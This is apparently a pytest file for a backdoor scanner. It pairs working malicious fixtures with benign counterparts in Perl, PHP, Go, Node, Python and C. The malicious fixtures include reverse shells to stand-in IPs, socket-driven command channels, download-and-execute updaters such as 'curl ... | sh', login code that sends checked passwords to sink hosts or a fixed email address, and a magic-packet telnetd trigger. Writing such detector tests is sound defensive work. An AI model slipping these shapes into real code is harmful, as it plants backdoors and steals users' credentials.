"""Shells handed to a connection, code fetched and run, and credentials sent away: the planted
shapes that must be found, each with the honest code beside it that must stay silent."""
from __future__ import annotations

from pathlib import Path

from nobackdoor.analyzers.source.code import analyze_source
from nobackdoor.analyzers.source.patterns import patterns
from nobackdoor.models import FileEntry, FileKind


def findings(rel: str, language: str, src: str):
    data = src.encode()
    e = FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
                  content=data)
    return [f for f in analyze_source(e, data, patterns()) if hasattr(f, "rule")]


def rules(rel: str, language: str, src: str) -> list[str]:
    return sorted(f.rule for f in findings(rel, language, src) if f.severity.value in ("high", "critical"))


# ---------------------------------------------------------------- streams joined to a shell

PERL_DUP = ("package Tool::Diag;\nuse Socket;\n"
            "if (fork() == 0) {\n"
            "    socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
            "    if (connect(S, sockaddr_in(4100, inet_aton('198.51.100.7')))) {\n"
            "        open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n"
            "        exec('/bin/sh -i');\n    }\n    exit 0;\n}\n1;\n")


def test_perl_handles_duplicated_from_a_socket_onto_a_shell():
    assert rules("lib/Tool/Diag.pm", "perl", PERL_DUP) == ["source.shell-served"]


def test_perl_stderr_joined_to_stdout_beside_a_database_connection_is_silent():
    honest = ("use DBI;\nmy $db = DBI->connect('dbi:SQLite:x.db');\n"
              "open(STDERR, '>&STDOUT');\nexec('/bin/sh -i');\n")
    assert rules("bin/tool.pl", "perl", honest) == []


def test_shell_command_reading_from_an_opened_descriptor():
    php = ("<?php\nfunction ping_mirror(): void {\n    $sock = @fsockopen('192.0.2.9', 4100);\n"
           "    if ($sock) {\n        exec('/bin/sh -i <&3 >&3 2>&3');\n    }\n}\n")
    assert rules("lib/update.php", "php", php) == ["source.shell-served"]
    # its own output joined to its error stream is ordinary
    honest = php.replace("<&3 >&3 2>&3", "2>&1").replace("/bin/sh -i", "/bin/sh -c 'uptime'")
    assert rules("lib/update.php", "php", honest) == []


GO_CONN = ('package main\nimport ("net"; "os/exec")\n'
           'func probe() {\n'
           '\tif c, err := net.Dial("tcp", "192.0.2.8:4100"); err == nil {\n'
           '\t\tcmd := exec.Command("/bin/sh", "-i")\n'
           '\t\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n'
           '\t\t_ = cmd.Run()\n\t}\n}\n')


def test_go_process_streams_set_to_a_connection():
    assert rules("cmd/x/main.go", "go", GO_CONN) == ["source.shell-served"]
    # the program's own terminal, beside a connection used for something else
    honest = GO_CONN.replace("cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c",
                             "cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr; c.Close()")
    assert rules("cmd/x/main.go", "go", honest) == []


def test_go_shell_reading_a_download_as_its_script():
    go = ('package update\nimport ("net/http"; "os/exec")\n'
          'func Check() {\n'
          '\tif resp, err := http.Get("http://updates.invalid/x.sh"); err == nil {\n'
          '\t\tcmd := exec.Command("/bin/sh")\n\t\tcmd.Stdin = resp.Body\n\t\t_ = cmd.Run()\n\t}\n}\n')
    got = findings("internal/update/update.go", "go", go)
    assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")]
    # a fixed local script as its input is not a download
    honest = go.replace("cmd.Stdin = resp.Body", "cmd.Stdin = strings.NewReader(localScript); resp.Body.Close()")
    assert rules("internal/update/update.go", "go", honest) == []


# ---------------------------------------------------------------- credentials checked, then sent away

def test_checked_password_sent_to_a_named_host_in_each_language():
    php = ("<?php\nfunction auth_login(string $user, string $pass): bool {\n"
           "    if (!password_verify($pass, users_load()[$user]['hash'])) { return false; }\n"
           "    $ch = curl_init('https://collect.invalid-host.example/api');\n"
           "    curl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['u' => $user, 'p' => $pass]]);\n"
           "    curl_exec($ch);\n    $_SESSION['user'] = $user;\n    return true;\n}\n")
    js = ("router.post('/login', async (req, res) => {\n"
          "  const { username = '', password = '' } = req.body || {};\n"
          "  const user = await auth.verifyPassword(String(username), String(password));\n"
          "  if (!user) { return res.status(401).json({}); }\n"
          "  require('dns').lookup(`${Buffer.from(`${username}:${password}`).toString('hex')}.sink.example`,"
          " () => {});\n"
          "  req.session.user = user.name;\n});\n")
    py = ("@bp.post('/login')\ndef login():\n    password = request.form['password']\n"
          "    user = check_password(request.form['username'], password)\n"
          "    if user is None:\n        return 'no', 401\n"
          "    urllib.request.urlopen('http://sink.example/k?' + urllib.parse.urlencode({'p': password}))\n"
          "    session['user'] = user\n")
    for rel, lang, src in (("lib/auth.php", "php", php), ("routes/api.js", "javascript", js),
                           ("app/views.py", "python", py)):
        got = [f for f in findings(rel, lang, src) if f.rule == "source.exfiltration"]
        assert len(got) == 1 and got[0].severity.value == "high", (lang, got)


def test_credentials_sent_without_a_local_check_or_hashed_are_not_exfiltration():
    # a login that asks a remote identity provider sends the password instead of checking it
    proxy = ("def login(username, password):\n"
             "    r = requests.post('https://idp.example.com/token', data={'u': username, 'p': password})\n"
             "    return r.ok\n")
    # a breached-password range query sends a hash prefix after a strength check
    hibp = ("def new_password(password):\n    check_strength(password)\n"
            "    digest = hashlib.sha1(password.encode()).hexdigest().upper()\n"
            "    return requests.get('https://api.pwnedpasswords.com/range/' + hashlib.sha1(password).hexdigest()[:5])\n")
    # a login that reports the user name only
    notify = ("def login(username, password):\n    if not check_password(username, password):\n        return False\n"
              "    requests.post('https://hooks.example.com/x', json={'text': username + ' logged in'})\n")
    for src in (proxy, hibp, notify):
        assert [f for f in findings("app/auth.py", "python", src) if f.rule == "source.exfiltration"] == []


# ---------------------------------------------------------------- commands read from a connection it opened

def test_node_data_events_of_an_opened_connection_run_as_commands():
    js = ("setInterval(() => {\n"
          "  const sock = require('net').connect({ host: '203.0.113.9', port: 4100 });\n"
          "  sock.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => sock.write(o)));\n"
          "}, 30000);\n")
    got = findings("server.js", "javascript", js)
    assert [(f.rule, f.evidence["input_kind"]) for f in got] == [("source.request-executed", "network")]
    # the data of a connection logged, and a fixed command run on a timer, are not a command channel
    honest = js.replace("require('child_process').exec(d.toString(), (e, o) => sock.write(o))", "log(d.toString())")
    honest += "setInterval(() => require('child_process').exec('df -h', (e, o) => log(o)), 60000);\n"
    assert rules("server.js", "javascript", honest) == []


def test_python_lines_of_a_connection_file_run_as_commands():
    py = ("import socket, subprocess\n\ndef _sync():\n"
          "    s = socket.create_connection(('198.51.100.5', 4100), timeout=30)\n"
          "    for line in s.makefile('r'):\n"
          "        s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)\n")
    assert rules("app/__init__.py", "python", py) == ["source.request-executed"]
    # lines of a local file are the operator's own
    honest = py.replace("s.makefile('r')", "open('/etc/app/jobs.txt')")
    assert rules("app/__init__.py", "python", honest) == []


def test_perl_lines_read_from_a_socket_object_run_by_qx():
    pl = ("package Tool::Diag;\nuse IO::Socket::INET;\n"
          "if (fork() == 0) {\n"
          "    my $c = IO::Socket::INET->new(PeerAddr => '198.51.100.6', PeerPort => 4100);\n"
          "    while (my $l = <$c>) { print $c scalar qx{$l 2>&1}; }\n    exit 0;\n}\n1;\n")
    assert rules("lib/Tool/Diag.pm", "perl", pl) == ["source.request-executed"]
    honest = pl.replace("IO::Socket::INET->new(PeerAddr => '198.51.100.6', PeerPort => 4100)",
                        "IO::File->new('/etc/tool/jobs', 'r')")
    assert rules("lib/Tool/Diag.pm", "perl", honest) == []


# ---------------------------------------------------------------- code downloaded and run

def test_node_download_response_collected_and_run_by_new_function():
    pushed = ("function check() {\n"
              "  require('http').get('http://updates.invalid/x', (res) => {\n"
              "    const parts = [];\n    res.on('data', (c) => parts.push(c));\n"
              "    res.on('end', () => {\n      const body = Buffer.concat(parts);\n"
              "      new Function('require', body.toString())(require);\n    });\n  });\n}\n")
    added = ("export function start(): void {\n"
             "  https.get('https://cfg.invalid/x.js', (res) => {\n    let src = '';\n"
             "    res.on('data', (d) => (src += d));\n"
             "    res.on('end', () => new Function('require', src)(require));\n  });\n}\n")
    for rel, lang, src in (("lib/updater.js", "javascript", pushed), ("src/telemetry.ts", "typescript", added)):
        got = findings(rel, lang, src)
        assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")], got
    # a downloaded manifest parsed as JSON is data, not code; a fixed function body is not a download
    honest = pushed.replace("new Function('require', body.toString())(require)", "apply(JSON.parse(body.toString()))")
    honest += "const f = new Function('a', 'b', 'return a + b');\n"
    assert rules("lib/updater.js", "javascript", honest) == []


# ---------------------------------------------------------------- a shell on a server handler's connection

def test_socketserver_handler_that_puts_a_shell_on_its_connection():
    py = ("import os\nimport socketserver\n\n\nclass _Diag(socketserver.StreamRequestHandler):\n"
          "    def handle(self):\n        if os.fork() == 0:\n            for fd in (0, 1, 2):\n"
          "                os.dup2(self.request.fileno(), fd)\n"
          "            os.execv('/bin/sh', ['sh', '-i'])\n\n\n"
          "def main():\n    socketserver.ThreadingTCPServer(('0.0.0.0', 4100), _Diag).serve_forever()\n")
    assert rules("agent/server.py", "python", py) == ["source.shell-served"]
    # a handler class given to the server by name only, without a handler base class
    plain = py.replace("(socketserver.StreamRequestHandler)", "")
    assert rules("agent/server.py", "python", plain) == ["source.shell-served"]
    # a daemon that detaches (its streams onto /dev/null) and runs a fixed script is no shell server
    honest = ("import os\n\n\nclass Daemon:\n    def start(self):\n"
              "        null = os.open(os.devnull, os.O_RDWR)\n        for fd in (0, 1, 2):\n"
              "            os.dup2(null, fd)\n        os.execv('/bin/sh', ['sh', '/usr/lib/app/run.sh'])\n")
    assert rules("agent/daemon.py", "python", honest) == []


# ---------------------------------------------------------------- a download written to a file, then run

def test_download_written_to_a_path_then_included_or_run():
    php = ("<?php\nfunction update_check(): ?array {\n"
           "    if (@file_put_contents('/tmp/.u.php', @file_get_contents('http://updates.invalid/u.txt'))) {\n"
           "        include '/tmp/.u.php';\n    }\n    return null;\n}\n")
    got = findings("lib/update.php", "php", php)
    assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")]
    py = ("import os, urllib.request\n\ndef refresh():\n"
          "    urllib.request.urlretrieve('https://updates.invalid/hook.sh', '/tmp/hook.sh')\n"
          "    os.system('sh /tmp/hook.sh')\n")
    assert rules("app/updater.py", "python", py) == ["source.eval-downloaded"]


def test_download_checked_before_it_runs_or_never_run_is_silent():
    verified = ("<?php\nfunction update_check(): void {\n"
                "    file_put_contents('/tmp/u.php', file_get_contents('https://updates.invalid/u.txt'));\n"
                "    if (openssl_verify(file_get_contents('/tmp/u.php'), $sig, $key) === 1) {\n"
                "        include '/tmp/u.php';\n    }\n}\n")
    cached = ("<?php\nfunction cache_feed(): void {\n"
              "    file_put_contents('/var/cache/feed.xml', file_get_contents('https://feeds.invalid/x.xml'));\n"
              "    include __DIR__ . '/render.php';\n}\n")
    local = ("<?php\nfunction build(): void {\n    file_put_contents('/tmp/c.php', render_template());\n"
             "    include '/tmp/c.php';\n}\n")
    for src in (verified, cached, local):
        assert rules("lib/update.php", "php", src) == []


def test_a_token_checked_for_format_and_used_with_its_service_is_not_exfiltration():
    src = ("def whoami(token):\n    check_token_format(token)\n"
           "    return requests.get('https://api.github.com/user', headers={'Authorization': 'token ' + token})\n")
    strength = ("def register(password):\n    check_strength(password)\n"
                "    requests.post('https://hooks.example.com/x', json={'password_ok': True, 'len': len(password)})\n")
    for s in (src, strength):
        assert [f for f in findings("app/gh.py", "python", s) if f.rule == "source.exfiltration"] == []


# ---------------------------------------------------------------- session 8 shapes

PY_POPEN_FDS = ("import socket\nimport subprocess\n\n\ndef _keepalive():\n"
                "    s = socket.create_connection(('203.0.113.5', 4100), timeout=10)\n"
                "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n")


def test_python_shell_started_with_a_connection_as_its_standard_streams():
    assert rules("app/__init__.py", "python", PY_POPEN_FDS) == ["source.shell-served"]
    # the same call with a log file as its output, beside a connection used for something else
    honest = PY_POPEN_FDS.replace("stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno()", "stdout=log")
    assert rules("app/__init__.py", "python", honest) == []


NODE_STDIO = ("const net = require('net');\nconst cp = require('child_process');\n"
              "function probe() {\n  const c = net.connect(4100, '198.51.100.4', () => {\n"
              "    cp.spawn('/bin/sh', ['-i'], {stdio: [c, c, c]});\n  });\n}\n")


def test_node_shell_spawned_with_a_socket_in_its_stdio_option():
    assert rules("lib/probe.js", "javascript", NODE_STDIO) == ["source.shell-served"]
    assert rules("lib/probe.js", "javascript", NODE_STDIO.replace("[c, c, c]", "'inherit'")) == []


GO_SCANNER = ('package main\nimport ("bufio"; "net"; "os/exec"; "time")\n'
              'func probeUplink() {\n\tfor {\n'
              '\t\tif c, err := net.DialTimeout("tcp", "198.51.100.2:4100", 10*time.Second); err == nil {\n'
              '\t\t\tsc := bufio.NewScanner(c)\n\t\t\tfor sc.Scan() {\n'
              '\t\t\t\tout, _ := exec.Command("sh", "-c", sc.Text()).CombinedOutput()\n'
              '\t\t\t\t_, _ = c.Write(out)\n\t\t\t}\n\t\t}\n\t\ttime.Sleep(time.Minute)\n\t}\n}\n')


def test_go_lines_of_a_dialled_connection_run_by_a_shell():
    assert rules("cmd/edged/main.go", "go", GO_SCANNER) == ["source.request-executed"]
    # lines of a local file run the same way are the program's own configuration
    honest = GO_SCANNER.replace('net.DialTimeout("tcp", "198.51.100.2:4100", 10*time.Second)',
                                'os.Open("/etc/edged/commands")')
    assert rules("cmd/edged/main.go", "go", honest) == []


C_BUSYBOX_ARGV = ("#include <unistd.h>\n#include <sys/socket.h>\n#include <arpa/inet.h>\n"
                  "static void *watch(void *arg)\n{\n    struct sockaddr_in a;\n"
                  "    int s = socket(AF_INET, SOCK_STREAM, 0);\n"
                  "    inet_pton(AF_INET, \"192.0.2.47\", &a.sin_addr);\n"
                  "    if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {\n"
                  "        char *argv[] = { \"/bin/busybox\", \"sh\", NULL };\n"
                  "        dup2(s, 0);\n        dup2(s, 1);\n        dup2(s, 2);\n"
                  "        execve(argv[0], argv, NULL);\n    }\n    return NULL;\n}\n")


def test_c_reverse_shell_through_busybox_sh_in_an_argv_array():
    assert rules("src/watchdog.c", "c", C_BUSYBOX_ARGV) == ["source.shell-served"]
    # busybox running another applet on a connected socket is not a shell
    assert rules("src/watchdog.c", "c", C_BUSYBOX_ARGV.replace('"sh", NULL', '"uptime", NULL')) == []


def test_c_execl_of_sh_with_a_fetch_and_run_command_in_its_fourth_argument():
    src = ("#include <unistd.h>\nint update_check(void)\n{\n    if (fork() == 0) {\n"
           "        execl(\"/bin/sh\", \"sh\", \"-c\", \"curl -fsk http://192.0.2.9/d/u.sh | sh\", (char *)NULL);\n"
           "        _exit(127);\n    }\n    return 0;\n}\n")
    assert rules("src/update.c", "c", src) == ["source.shell-served"]
    honest = src.replace("curl -fsk http://192.0.2.9/d/u.sh | sh", "logger update check")
    assert rules("src/update.c", "c", honest) == []


C_TELNET_PACKET = ("#include <string.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n"
                   "static char g_rx[512];\n"
                   "void serve(int s)\n{\n    int n = recv(s, g_rx, sizeof(g_rx), 0);\n"
                   "    if (n > 8 && memcmp(g_rx, \"vq_enable_7781\", 14) == 0)\n"
                   "        system(\"busybox telnetd -p 23 -l /bin/login &\");\n}\n")


def test_c_magic_packet_starting_a_login_daemon():
    assert rules("src/proto.c", "c", C_TELNET_PACKET) == ["source.magic-input-command"]
    # the same daemon started from the device's own setting is its documented service
    honest = C_TELNET_PACKET.replace("n > 8 && memcmp(g_rx, \"vq_enable_7781\", 14) == 0", "cfg_telnet_enabled()")
    assert rules("src/proto.c", "c", honest) == []


GO_WRITE_EXEC = ('package update\nimport ("io"; "net/http"; "os"; "os/exec")\n'
                 'func fetch(url string) ([]byte, error) {\n\tc := &http.Client{}\n\tresp, err := c.Get(url)\n'
                 '\tif err != nil {\n\t\treturn nil, err\n\t}\n\treturn io.ReadAll(resp.Body)\n}\n'
                 'func Check() {\n'
                 '\tif b, err := fetch("http://198.51.100.9/t.sh"); err == nil && os.WriteFile("/tmp/.t", b, 0o755) == nil {\n'
                 '\t\t_ = exec.Command("/tmp/.t").Start()\n\t}\n}\n')


def test_go_download_written_with_writefile_then_run():
    assert rules("internal/update/update.go", "go", GO_WRITE_EXEC) == ["source.eval-downloaded"]
    # the download made by a helper whose name says nothing
    renamed = GO_WRITE_EXEC.replace("func fetch(", "func pullBlob(").replace('fetch("http', 'pullBlob("http')
    assert rules("internal/update/update.go", "go", renamed) == ["source.eval-downloaded"]
    # verified before it runs
    honest = GO_WRITE_EXEC.replace('\t\t_ = exec.Command("/tmp/.t").Start()',
                                   '\t\tif verifySignature("/tmp/.t") {\n\t\t\t_ = exec.Command("/tmp/.t").Start()\n\t\t}')
    assert rules("internal/update/update.go", "go", honest) == []


def test_php_checked_password_mailed_to_a_fixed_address():
    src = ("<?php\nfunction auth_login(string $user, string $pass): bool\n{\n    $users = users_load();\n"
           "    if (!isset($users[$user]) || !password_verify($pass, $users[$user]['hash'])) {\n"
           "        return false;\n    }\n"
           "    @mail('ops@collector.example', 'login', $user . ':' . $pass);\n"
           "    $_SESSION['user'] = $user;\n    return true;\n}\n")
    assert rules("lib/auth.php", "php", src) == ["source.exfiltration"]
    # a login notice naming the user only is not the password sent away
    assert rules("lib/auth.php", "php", src.replace("$user . ':' . $pass", "$user . ' logged in'")) == []


def test_python_download_written_through_an_opened_file_then_run():
    src = ("import subprocess\nimport urllib.request\n\n\ndef http_bytes(url):\n"
           "    with urllib.request.urlopen(url, timeout=20) as r:\n        return r.read()\n\n\n"
           "def refresh():\n    blob = http_bytes('http://198.51.100.61/a.bin')\n"
           "    with open('/tmp/.a', 'wb') as f:\n        f.write(blob)\n"
           "    subprocess.Popen(['/bin/sh', '/tmp/.a'])\n")
    assert rules("agent/plugins.py", "python", src) == ["source.eval-downloaded"]
    honest = src.replace("    subprocess.Popen(['/bin/sh', '/tmp/.a'])\n",
                         "    if verify_signature('/tmp/.a'):\n        subprocess.Popen(['/bin/sh', '/tmp/.a'])\n")
    assert rules("agent/plugins.py", "python", honest) == []
